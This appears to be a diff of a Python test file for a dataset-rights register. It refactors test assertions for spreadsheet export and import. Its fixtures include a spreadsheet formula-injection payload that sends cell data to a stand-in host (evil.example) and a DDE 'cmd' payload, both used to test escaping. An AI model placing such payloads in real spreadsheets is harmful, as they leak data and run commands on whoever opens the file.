@@ -17,10 +17,11 @@ from sqlalchemy import update
 from register.errors import ValidationError
 from register.exports import REGISTER_COLUMNS, export_register
 from register.exports import xlsx as xlsx_mod
-from register.register import _D, Register
+from register.register import Register
 from register.rights.record import EDITABLE_COLUMNS, parse_rights_options
 from register.rights.table_import import FORMULA_TRIGGERS
 from register.store.engine import run_write
+from register.store.tables import DATASETS
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 HOSTILE_LICENSE = "=cmd|' /C calc'!A0"
@@ -201,7 +202,7 @@ def test_escaped_cells_import_back_unchanged(sqlite_reg: Register, cards_dir: Pa
     export_register(sqlite_reg, "xlsx", out)
     summary = sqlite_reg.import_rights(out, by="tester")
     assert summary["rights_changed"] == 0 and summary["licenses_changed"] == 0
-    assert sqlite_reg.show("evil")["rights"]["recorded"]["dpia"] == "=1+1"
+    assert sqlite_reg.show("evil").rights.recorded["dpia"] == "=1+1"
 
 
 def test_long_cells_are_truncated_visibly_and_reported(
@@ -209,7 +210,7 @@ def test_long_cells_are_truncated_visibly_and_reported(
     long = "x" * 40_000
 
     def work(conn: Any) -> None:
-        conn.execute(update(_D).where(_D.c.id == "beans").values(
+        conn.execute(update(DATASETS).where(DATASETS.c.id == "beans").values(
             pretty_name=long, declared_reason="bad \x00\x07 bytes"))
 
     run_write(loaded.engine, work)
@@ -231,7 +232,7 @@ def test_hyperlink_limit_is_respected_and_reported(
         loaded: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     def work(conn: Any) -> None:
         for ds in loaded.dataset_ids():
-            conn.execute(update(_D).where(_D.c.id == ds).values(
+            conn.execute(update(DATASETS).where(DATASETS.c.id == ds).values(
                 source=f"https://huggingface.co/datasets/{ds}"))
 
     run_write(loaded.engine, work)
@@ -298,25 +299,25 @@ def test_round_trip_imports_exactly_the_edits(loaded: Register, tmp_path: Path) 
                        "unchanged": 12}
 
     after = {ds: loaded.show(ds) for ds in loaded.dataset_ids()}
-    changed = {ds for ds in after if after[ds]["rights"]["recorded"]
-               != before[ds]["rights"]["recorded"]
-               or after[ds]["license"]["concluded"] != before[ds]["license"]["concluded"]}
+    changed = {ds for ds in after if after[ds].rights.recorded
+               != before[ds].rights.recorded
+               or after[ds].license.concluded != before[ds].license.concluded}
     assert changed == {"beans", "cedr", "aeslc"}
-    beans = after["beans"]["rights"]["recorded"]
+    beans = after["beans"].rights.recorded
     assert beans["allowed_regions"] == ["EEA"] and beans["retain_until"] == "2031-12-31"
     assert beans["collected_in"] == ["KE"] and beans["personal_data"] == "no"
     cedr = after["cedr"]
-    assert cedr["rights"]["recorded"]["lawful_basis"] == "contract"
-    assert cedr["rights"]["reason"] == "DPA signed 2026-10"
-    assert cedr["pretty_name"] == before["cedr"]["pretty_name"]
+    assert cedr.rights.recorded["lawful_basis"] == "contract"
+    assert cedr.rights.reason == "DPA signed 2026-10"
+    assert cedr.pretty_name == before["cedr"].pretty_name
     aeslc = after["aeslc"]
-    assert aeslc["license"]["concluded"] == "CC-BY-4.0"
-    assert aeslc["license"]["concluded_by"] == "alice"
-    assert aeslc["license"]["effective"] == "CC-BY-4.0"
-    assert aeslc["rights"]["recorded"]["sensitive"] == ["confidential-business"]
-    assert aeslc["rights"]["by"] == "alice"
+    assert aeslc.license.concluded == "CC-BY-4.0"
+    assert aeslc.license.concluded_by == "alice"
+    assert aeslc.license.effective == "CC-BY-4.0"
+    assert aeslc.rights.recorded["sensitive"] == ["confidential-business"]
+    assert aeslc.rights.by == "alice"
     events = loaded.audit_log()[audit_before:]
-    actions = [(e["action"], e["dataset_id"]) for e in events]
+    actions = [(e.action, e.dataset_id) for e in events]
     assert sorted(a for a in actions if a[0] != "import") == sorted([
         ("rights.set", "beans"), ("rights.set", "cedr"), ("rights.set", "aeslc"),
         ("license.conclude", "aeslc")])
